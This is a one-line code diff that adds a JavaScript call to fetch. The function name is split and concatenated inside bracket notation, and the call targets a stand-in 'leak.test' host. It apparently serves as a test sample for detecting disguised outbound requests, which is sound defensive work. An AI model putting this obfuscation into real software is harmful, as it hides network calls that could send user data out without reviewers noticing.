@@ -1,0 +1,1 @@
+self["fe" + "tch"]("https://js-fetch-bracket-concatenated.leak.test/")
